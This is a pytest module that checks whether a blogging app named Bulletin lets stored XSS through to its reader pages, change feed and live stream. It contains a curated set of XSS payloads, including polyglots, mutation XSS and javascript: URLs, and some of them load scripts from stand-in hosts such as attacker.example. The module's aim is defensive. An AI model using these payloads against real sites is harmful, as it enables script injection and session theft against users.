"""No script, event handler, dangerous URL, frame, style or foreign markup that a person
typed ever reaches a reader: not the reader page, the permalink page, the front page, the
`/changes` JSON nor the live SSE stream.

Two lists run through the whole path (publish through the API on a real server, then read
every surface back and parse it with a real HTML parser):
* the project's own curated list, one test per class of attack in
  ../shared/corpus/xss.index.tsv, and
* every one of the 252 payloads of ../shared/corpus/xss.txt, grouped by that class.

Each payload goes into every text-bearing field at once (headline, text HTML, quote text /
speaker / context, image alt / caption / credit, link title / description, blog title /
description). A field that refuses a payload with a clear 4xx is fine: the field gets a
harmless value and the rest is published and checked.
"""

from __future__ import annotations

import asyncio
import itertools
import json
import re
import shutil
from collections.abc import AsyncIterator, Awaitable, Iterable
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, TypeVar

import httpx
import pytest

from bulletin.domain.roles import Role
from tests.conftest import App, LiveServer, serve_in_process

T = TypeVar("T")

# ---------------------------------------------------------------------------------------
# The inspector: what must never appear in what Bulletin serves
# ---------------------------------------------------------------------------------------

FORBIDDEN_ELEMENTS = frozenset({
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "svg",
    "math", "style", "form", "isindex", "template", "noscript", "xmp", "listing", "plaintext",
    "noembed", "textarea", "select", "input", "keygen", "portal", "param",
})
URL_ATTRIBUTES = frozenset({
    "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
    "dynsrc", "lowsrc", "codebase", "cite", "longdesc", "usemap", "ping", "manifest", "icon",
    "archive", "profile", "classid", "folder", "to", "values", "from", "by", "srcset",
})
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
PAGE_LINK_RELS = frozenset({"canonical", "alternate", "icon", "manifest"})
# Browsers ignore whitespace and control characters inside a URL's scheme.
_IGNORED_IN_SCHEME = re.compile(
    "[\x00-\x20\x7f-\x9f\u00a0\u1680\u180e\u2000-\u200f\u2028-\u202f\u205f-\u206f\u3000\ufeff]")
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see in an (already entity-decoded) attribute value."""
    match = _SCHEME.match(_IGNORED_IN_SCHEME.sub("", value).lower())
    return match.group(1) if match else None


def _is_own_static(url: str) -> bool:
    return url.startswith("/static/") and "//" not in url and "\\" not in url


@dataclass
class Node:
    tag: str
    attrs: dict[str, str]
    children: list[Node] = field(default_factory=list)


class Inspector(HTMLParser):
    """Parses a page (`page=True`) or a fragment and lists everything unsafe in it. It also
    collects every text run and attribute value, to prove that payloads arrived as text."""

    def __init__(self, *, page: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.page = page
        self.problems: list[str] = []
        self.problem_posts: list[int | None] = []  # the post (article) each problem is in
        self._articles: list[int | None] = []
        self.texts: list[str] = []
        self.attribute_values: list[tuple[str, str, str]] = []
        self._script: tuple[dict[str, str], list[str]] | None = None

    def problem(self, what: str) -> None:
        self.problems.append(what)
        self.problem_posts.append(self._articles[-1] if self._articles else None)

    def problems_in(self, post_id: int | None) -> list[str]:
        return [p for p, where in zip(self.problems, self.problem_posts, strict=True)
                if where == post_id]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag == "article":
            post_id = values.get("data-id", "")
            self._articles.append(int(post_id) if post_id.isdigit() else None)
        if tag == "script":
            self._script = (values, [])
        elif tag in FORBIDDEN_ELEMENTS:
            self.problem(f"<{tag}> element")
        if tag == "meta" and ("http-equiv" in values or
                              values.get("charset", "utf-8").lower() != "utf-8"):
            self.problem(f"<meta {' '.join(values)}>")
        if tag == "link":  # the page's own links; a stylesheet only from /static/
            rel, href = values.get("rel", "").lower(), values.get("href", "")
            if not (self.page and (rel in PAGE_LINK_RELS or
                                   (rel == "stylesheet" and _is_own_static(href)))):
                self.problem(f"<link {values}>")
        for name, value in values.items():
            self.attribute_values.append((tag, name, value))
            self._attribute(tag, name, value)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self.handle_endtag(tag)

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on"):
            self.problem(f"event handler {name}= on <{tag}>")
        elif name == "style":
            self.problem(f"style= on <{tag}>")
        elif name == "srcdoc":
            self.problem(f"srcdoc= on <{tag}>")
        elif name in URL_ATTRIBUTES:
            candidates = [c.strip().split(" ")[0] for c in value.split(",")] \
                if name == "srcset" else [value]
            for url in candidates:
                scheme = url_scheme(url)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    self.problem(f"{scheme}: URL in {name}= on <{tag}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "article" and self._articles:
            self._articles.pop()
        if tag != "script" or self._script is None:
            return
        attrs, chunks = self._script
        self._script = None
        inline = "".join(chunks)
        src = attrs.get("src", "")
        if self.page and src and _is_own_static(src) and not inline.strip():
            return  # the page's own script, e.g. <script src="/static/reader.js">
        if (self.page and not src and attrs.get("type") == "application/ld+json"
                and "<" not in inline and _parses_as_json(inline)):
            return  # structured data: inert, and nothing in it could close the element
        self.problem(f"<script {attrs}> with {inline[:60]!r}")

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._script[1].append(data)
        else:
            self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.problem(f"comment <!--{data[:40]}-->")

    def handle_pi(self, data: str) -> None:
        self.problem(f"processing instruction <?{data[:40]}>")

    def unknown_decl(self, data: str) -> None:
        self.problem(f"declaration <![{data[:40]}>")

    def handle_decl(self, decl: str) -> None:
        if not (self.page and decl.lower() == "doctype html"):
            self.problem(f"declaration <!{decl[:40]}>")


def _parses_as_json(text: str) -> bool:
    try:
        json.loads(text)
    except ValueError:
        return False
    return True


def inspect(html: str, *, page: bool) -> Inspector:
    inspector = Inspector(page=page)
    inspector.feed(html)
    inspector.close()
    if inspector._script is not None:
        inspector.problem("unterminated <script>")
    return inspector


def find_unsafe(html: str, *, page: bool = False) -> list[str]:
    """Everything unsafe in `html` (a page, or a fragment such as a post's rendered HTML)."""
    return inspect(html, page=page).problems


# ---------------------------------------------------------------------------------------
# The project's own list: representative payloads for every class in xss.index.tsv
# ---------------------------------------------------------------------------------------

CURATED: dict[str, list[str]] = {
    "script-tag": [
        "<script>alert(document.domain)</script>",
        "<SCRIPT SRC=https://attacker.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script>",
        "</p><script>fetch('/api/v1/blogs')</script><p>",
        "<script type=module>import('//evil.example/m.js')</script>",
        "<p>Storm update<script>document.cookie</script> continues</p>",
    ],
    "event-handler": [
        "<img src=x onerror=alert(1)>",
        "<p onclick=\"alert(1)\">Tap here</p>",
        "<a href=\"https://news.example/\" onmouseover=\"alert(1)\">report</a>",
        "<strong onpointerenter=alert(1)>bold claim</strong>",
        "<details open ontoggle=alert(1)>",
        "<body onload=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<em/onfocus=alert(1)/tabindex=1/autofocus>x</em>",
    ],
    "dangerous-url": [
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">mixed case</a>",
        "<a href=\"  javascript:alert(1)\">leading spaces</a>",
        "<a href=\"vbscript:msgbox(1)\">vb</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">data</a>",
        "<a href=\"java\tscript:alert(1)\">tab inside</a>",
        "<img src=\"javascript:alert(1)\">",
        "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    ],
    "attribute-breakout": [
        "\"><script>alert(1)</script>",
        "' onmouseover='alert(1)",
        "\" autofocus onfocus=\"alert(1)",
        "\"><img src=x onerror=alert(1)>",
        "</h2><script>alert(1)</script>",
        "</title></textarea><script>alert(1)</script>",
        "<a href=\"https://news.example/\" title=\"x\" onclick=\"alert(1)\">t</a>",
    ],
    "css": [
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<style>body{background:url(\"javascript:alert(1)\")}</style>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<strong style=\"position:fixed;inset:0\">overlay</strong>",
    ],
    "encoded": [
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;"
        "alert(1)\">hex</a>",
        "<a href=\"javascript&colon;alert(1)\">named colon</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">tab entity</a>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<a href=\"%6a%61vascript:alert(1)\">percent</a>",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "<a href=\"&#0000106&#0000097vascript:alert(1)\">padded</a>",
    ],
    "frame-object-base-meta": [
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    ],
    "mutation-xss": [
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<svg><p><style><img src=x onerror=alert(1)></style>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<template><img src=x onerror=alert(1)></template>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<p title=\"--><img src=x onerror=alert(1)>\">x</p>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    ],
    "polyglot": [
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/"
        "</teXtarEa/</scRipt/--!><sVg/oNloAd=alert(1)//>",
        "'\"--></style></script></title></textarea><img src=x onerror=alert(1)>",
        "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template>"
        "</noembed></script><html \" onmouseover=/*&lt;svg/*/onload=alert(1)//>",
        "\"'><svg/onload=alert(1)><a href=\"javascript:alert(1)\">x</a>",
    ],
    "svg-mathml": [
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x"
        "</maction></math>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
        "<image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    ],
}
CATEGORIES = sorted(CURATED)


# ---------------------------------------------------------------------------------------
# The shared corpus
# ---------------------------------------------------------------------------------------

def corpus_dir(repo_root: Path) -> Path:
    folder = repo_root.parent / "shared" / "corpus"
    if not (folder / "xss.txt").is_file() or not (folder / "xss.index.tsv").is_file():
        pytest.fail(f"The XSS corpus is missing: expected {folder}/xss.txt and xss.index.tsv "
                    "(CI runs with shared/ beside the repository).", pytrace=False)
    return folder


def read_corpus(repo_root: Path) -> list[tuple[int, str, str, str]]:
    """(line, category, note, payload) for every line of xss.txt; split on LF only."""
    folder = corpus_dir(repo_root)
    lines = (folder / "xss.txt").read_bytes().decode("utf-8").split("\n")
    if lines[-1] == "":
        lines.pop()
    index: dict[int, tuple[str, str]] = {}
    for row in (folder / "xss.index.tsv").read_text("utf-8").split("\n")[1:]:
        if row:
            number, category, _source, note = row.split("\t")
            index[int(number)] = (category, note)
    assert len(index) == len(lines), (len(index), len(lines))
    return [(n, *index[n], payload) for n, payload in enumerate(lines, start=1)]


def test_the_corpus_is_read_whole_and_every_class_is_curated(repo_root: Path) -> None:
    corpus = read_corpus(repo_root)
    assert len(corpus) == 252
    assert len({payload for *_, payload in corpus}) == 252
    assert any(payload.startswith(" ") for *_, payload in corpus)  # nothing was stripped
    assert any("\t" in payload for *_, payload in corpus)
    assert {category for _, category, _, _ in corpus} == set(CURATED)
    assert all(len(payloads) >= 4 for payloads in CURATED.values())
    assert not any("\n" in p or "\r" in p for ps in CURATED.values() for p in ps)


# ---------------------------------------------------------------------------------------
# Publishing payloads in every text-bearing field, then reading every surface back
# ---------------------------------------------------------------------------------------

IMAGE_URL = "https://img.example/storm.jpg"
LINK_URL = "https://news.example/report"


@dataclass
class Placed:
    """One payload published into one blog; which fields accepted it."""

    label: str
    payload: str
    slug: str  # its own blog, titled and described with the payload
    posts_slug: str  # the blog its post went into, shared with the other payloads of a run
    post_id: int = 0
    accepted: dict[str, str] = field(default_factory=dict)  # field -> stored text
    refused: dict[str, str] = field(default_factory=dict)  # field -> error message


def post_fields(payload: str) -> dict[str, Any]:
    return {
        "headline": payload,
        "blocks": [
            {"kind": "text", "html": payload},
            {"kind": "quote", "text": payload, "speaker": payload, "context": payload},
            {"kind": "image", "url": IMAGE_URL, "alt": payload, "caption": payload,
             "credit": payload},
            {"kind": "link", "url": LINK_URL, "title": payload, "description": payload},
        ],
    }


def _text_fields(body: dict[str, Any]) -> dict[str, str]:
    out = {"headline": body["headline"]}
    for i, block in enumerate(body["blocks"]):
        for key, value in block.items():
            if key not in ("kind", "url"):
                out[f"blocks.{i}.{key}"] = value
    return out


def _set_harmless(body: dict[str, Any], name: str) -> None:
    parts = name.split(".")
    if parts[0] != "blocks":
        body[name] = f"Harmless {name}"
        return
    block = body["blocks"][int(parts[1])]
    key = parts[2] if len(parts) > 2 and parts[2] in block else \
        {"text": "html", "quote": "text"}.get(block["kind"], "alt")
    block[key] = "<p>Harmless text</p>" if key == "html" else f"Harmless {key}"


async def _send_until_accepted(client: httpx.AsyncClient, method: str, url: str,
                               headers: dict[str, str], body: dict[str, Any],
                               placed: Placed, prefix: str = "") -> httpx.Response:
    """Send; each field refused with a clear 4xx gets a harmless value, until accepted."""
    for _ in range(20):
        r = await client.request(method, url, headers=headers, json=body)
        if r.status_code < 300:
            return r
        assert r.status_code == 422, (placed.label, r.status_code, r.text)
        error = r.json()["error"]
        assert error["field"] and len(error["message"]) > 10, (placed.label, error)
        name = error["field"]
        assert prefix + name not in placed.refused, (placed.label, error)
        placed.refused[prefix + name] = error["message"]
        _set_harmless(body, name)
    raise AssertionError(f"{placed.label}: never accepted; refusals {placed.refused}")


async def place(server: LiveServer, admin: str, editor: str, label: str, payload: str,
                slug: str, posts_slug: str) -> Placed:
    """A blog of its own whose title and description are the payload, and a post in the
    shared posts blog with the payload in every text field."""
    placed = Placed(label=label, payload=payload, slug=slug, posts_slug=posts_slug)
    blog = {"slug": placed.slug, "title": payload, "description": payload}
    await _send_until_accepted(server.client, "POST", "/api/v1/blogs", server.auth(admin),
                               blog, placed, "blog.")
    for key in ("title", "description"):
        if f"blog.{key}" not in placed.refused:
            placed.accepted[f"blog.{key}"] = payload.strip()
    body = post_fields(payload)
    r = await _send_until_accepted(server.client, "POST", f"/api/v1/blogs/{posts_slug}/posts",
                                   server.auth(editor), body, placed)
    assert r.status_code == 201, r.text
    placed.post_id = r.json()["id"]
    for name, value in _text_fields(body).items():
        if name not in placed.refused and name != "blocks.0.html":
            placed.accepted[name] = value.strip()
    return placed


@dataclass
class Report:
    problems: list[str] = field(default_factory=list)

    def add(self, placed: Placed, surface: str, found: Iterable[str]) -> None:
        self.problems.extend(f"{placed.label} on {surface}: {p}  <- {placed.payload[:80]!r}"
                             for p in found)


def arrived_as_text(placed: Placed, inspector: Inspector, fields: Iterable[str]) -> list[str]:
    """Each accepted plain-text field must be on the page as a text run or an attribute value
    equal to the payload: proof that it arrived, and arrived as inert text."""
    texts = {t.strip() for t in inspector.texts}
    attributes = {v.strip() for _, _, v in inspector.attribute_values}
    return [f"{name} is not on the page as text" for name in fields
            if name in placed.accepted
            and placed.accepted[name] not in (attributes if name.endswith(".alt") else texts)]


POST_TEXT_FIELDS = ("headline", "blocks.1.text", "blocks.1.speaker", "blocks.1.context",
                    "blocks.2.alt", "blocks.2.credit", "blocks.3.title", "blocks.3.description")
BLOG_TEXT_FIELDS = ("blog.title", "blog.description")


async def read_sse(client: httpx.AsyncClient, slug: str, last_seq: int) -> list[dict[str, str]]:
    """Every frame of /live from the start (last_event_id=0) up to `last_seq`."""
    frames: list[dict[str, str]] = []
    current: dict[str, str] = {}
    async with asyncio.timeout(20), client.stream(
            "GET", f"/blogs/{slug}/live", params={"last_event_id": "0"},
            headers={"Accept": "text/event-stream"}) as r:
        assert r.status_code == 200
        async for line in r.aiter_lines():
            if line == "":
                if current:
                    frames.append(current)
                    if int(current.get("id", "0")) >= last_seq:
                        break
                current = {}
                continue
            if line.startswith(":"):
                continue
            name, _, value = line.partition(":")
            assert name in ("id", "event", "data", "retry"), f"forged SSE line {line!r}"
            assert name not in current, f"second {name}: line in one frame"
            current[name] = value.removeprefix(" ")
    return [f for f in frames if "id" in f]


async def read_changes(client: httpx.AsyncClient, slug: str) -> list[dict[str, Any]]:
    events: list[dict[str, Any]] = []
    since, more = 0, True
    while more:
        r = await client.get(f"/blogs/{slug}/changes", params={"since": since})
        assert r.status_code == 200
        body = r.json()
        events.extend(body["events"])
        since, more = body["last_seq"], body["more"]
    return events


async def get_page(client: httpx.AsyncClient, url: str) -> Inspector:
    r = await client.get(url, headers={"Accept": "text/html"})
    assert r.status_code == 200, (url, r.status_code)
    return inspect(r.text, page=True)


async def check_pages(client: httpx.AsyncClient, posts_slug: str, placed: list[Placed],
                      report: Report) -> None:
    by_id = {p.post_id: p for p in placed}
    pages = []
    for number in itertools.count(1):  # from the oldest page; the last is the front page
        r = await client.get(f"/blogs/{posts_slug}?page={number}",
                             headers={"Accept": "text/html"})
        if r.status_code == 404:
            break
        assert r.status_code == 200
        pages.append(inspect(r.text, page=True))
    seen: set[int] = set()
    for page in pages:
        ids = {int(v) for tag, name, v in page.attribute_values
               if tag == "article" and name == "data-id"}
        seen |= ids
        report.problems.extend(f"reader page, outside any post: {p}"
                               for p in page.problems_in(None))
        for post_id in ids:
            report.add(by_id[post_id], "reader page", page.problems_in(post_id))
            report.add(by_id[post_id], "reader page",
                       arrived_as_text(by_id[post_id], page, POST_TEXT_FIELDS))
    assert seen == set(by_id), "every post is on one of the reader pages"

    async def one(p: Placed) -> None:
        page = await get_page(client, f"/blogs/{posts_slug}/posts/{p.post_id}")
        report.add(p, "permalink page", page.problems)
        report.add(p, "permalink page", arrived_as_text(p, page, POST_TEXT_FIELDS))
        page = await get_page(client, f"/blogs/{p.slug}")
        report.add(p, "its blog's reader page", page.problems)
        report.add(p, "its blog's reader page", arrived_as_text(p, page, BLOG_TEXT_FIELDS))

    await gathered(one(p) for p in placed)


async def check_feed(client: httpx.AsyncClient, posts_slug: str, placed: list[Placed],
                     report: Report) -> None:
    by_id = {p.post_id: p for p in placed}
    events = await read_changes(client, posts_slug)
    assert sorted(e["data"]["id"] for e in events) == sorted(by_id)
    for event in events:
        report.add(by_id[event["data"]["id"]], "/changes html",
                   find_unsafe(event["data"]["html"]))
    frames = await read_sse(client, posts_slug, events[-1]["seq"])
    assert [int(f["id"]) for f in frames] == [e["seq"] for e in events]
    for frame, event in zip(frames, events, strict=True):
        assert frame["event"] == event["kind"] == "post.published"
        data = json.loads(frame["data"])
        assert data == event["data"], "the stream and /changes carry the same payload"
        report.add(by_id[data["id"]], "live stream html", find_unsafe(data["html"]))


async def gathered(jobs: Iterable[Awaitable[T]], limit: int = 8) -> list[T]:
    """Run the jobs a few at a time (the server shares this event loop)."""
    gate = asyncio.Semaphore(limit)

    async def gated(job: Awaitable[T]) -> T:
        async with gate:
            return await job

    return list(await asyncio.gather(*(gated(job) for job in jobs)))


@pytest.fixture(scope="module")
async def shared_server(sqlite_template: Path, tmp_path_factory: pytest.TempPathFactory
                        ) -> AsyncIterator[LiveServer]:
    """One real server for the payload runs of this module; each run uses its own blogs."""
    folder = tmp_path_factory.mktemp("xss")
    shutil.copyfile(sqlite_template, folder / "bulletin.db")
    async for live in serve_in_process(f"sqlite:///{folder / 'bulletin.db'}", folder):
        yield live


async def run_payloads(server: LiveServer, name: str, payloads: list[tuple[str, str]]
                       ) -> list[Placed]:
    """Publish every payload (in blogs named after `name`), then read every surface back."""
    admin = await server.token(Role.ADMIN)
    editor = await server.token(Role.EDITOR)
    posts_slug = f"{name}-posts"
    r = await server.client.post("/api/v1/blogs", headers=server.auth(admin),
                                 json={"slug": posts_slug, "title": "Payloads"})
    assert r.status_code == 201, r.text
    placed = await gathered(place(server, admin, editor, label, payload, f"{name}-{i}",
                                  posts_slug)
                            for i, (label, payload) in enumerate(payloads))
    report = Report()
    await check_pages(server.client, posts_slug, placed, report)
    await check_feed(server.client, posts_slug, placed, report)
    front = await server.client.get("/", headers={"Accept": "text/html"})
    assert front.status_code == 200
    report.problems.extend(f"front page: {p}" for p in find_unsafe(front.text, page=True))
    assert not report.problems, "\n".join(report.problems)
    return placed


@pytest.mark.parametrize("category", CATEGORIES)
async def test_curated_payloads_never_reach_a_reader(shared_server: LiveServer,
                                                     category: str) -> None:
    payloads = [(f"{category}#{i}", p) for i, p in enumerate(CURATED[category], start=1)]
    placed = await run_payloads(shared_server, f"own-{category}", payloads)
    # The suite is not vacuous: most fields took the payloads and rendered them as text.
    assert sum(len(p.accepted) for p in placed) > len(placed) * 5


@pytest.mark.parametrize("category", CATEGORIES)
async def test_every_corpus_payload_never_reaches_a_reader(shared_server: LiveServer,
                                                           repo_root: Path, category: str
                                                           ) -> None:
    payloads = [(f"xss.txt:{line} ({note or category})", payload)
                for line, cat, note, payload in read_corpus(repo_root) if cat == category]
    assert payloads
    placed = await run_payloads(shared_server, f"corpus-{category}", payloads)
    assert sum(len(p.accepted) for p in placed) > len(placed) * 5


DANGEROUS_URLS = [
    "javascript:alert(1)", " JavaScript:alert(1)", "java\tscript:alert(1)",
    "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example/x", "livescript:[code]", "mhtml:http://evil.example/x!xss.html",
    "jav&#x09;ascript:alert(1)", r"\u006aavascript:alert(1)",
]


@pytest.mark.parametrize("url", DANGEROUS_URLS)
async def test_dangerous_urls_are_refused_in_url_fields(api: App, url: str) -> None:
    admin = await api.token(Role.ADMIN)
    r = await api.client.post("/api/v1/blogs", headers=api.auth(admin),
                              json={"slug": "urls", "title": "URLs"})
    assert r.status_code == 201
    for kind in ("image", "embed", "link"):
        block = {"kind": kind, "url": url, **({"alt": "A photo"} if kind == "image" else {})}
        r = await api.client.post("/api/v1/blogs/urls/posts", headers=api.auth(admin),
                                  json={"blocks": [block]})
        assert r.status_code == 422, (kind, r.text)
        error = r.json()["error"]
        assert error["field"] == "blocks.0.url"
        assert "address" in error["message"]
    assert (await api.client.get("/api/v1/blogs/urls")).json()["last_seq"] == 0


async def test_quotes_in_an_accepted_url_stay_inside_the_attribute(api: App) -> None:
    """A valid web address may contain quotes and angle brackets; escaped, they cannot
    open a new attribute or element."""
    admin = await api.token(Role.ADMIN)
    await api.client.post("/api/v1/blogs", headers=api.auth(admin),
                          json={"slug": "quotes", "title": "Quotes"})
    image = 'https://img.example/a.jpg?x="onerror="alert(1)'
    link = "https://news.example/'><script>alert(1)</script>"
    r = await api.client.post("/api/v1/blogs/quotes/posts", headers=api.auth(admin), json={
        "blocks": [{"kind": "image", "url": image, "alt": "A photo"},
                   {"kind": "link", "url": link, "title": "Report"},
                   {"kind": "embed", "url": link}]})
    assert r.status_code == 201, r.text
    for url in ("/blogs/quotes", f"/blogs/quotes/posts/{r.json()['id']}"):
        page = inspect((await api.client.get(url)).text, page=True)
        assert page.problems == []
        values = {(tag, name, value) for tag, name, value in page.attribute_values}
        assert ("img", "src", image) in values
        assert ("a", "href", link) in values
    assert find_unsafe(r.json()["html"]) == []
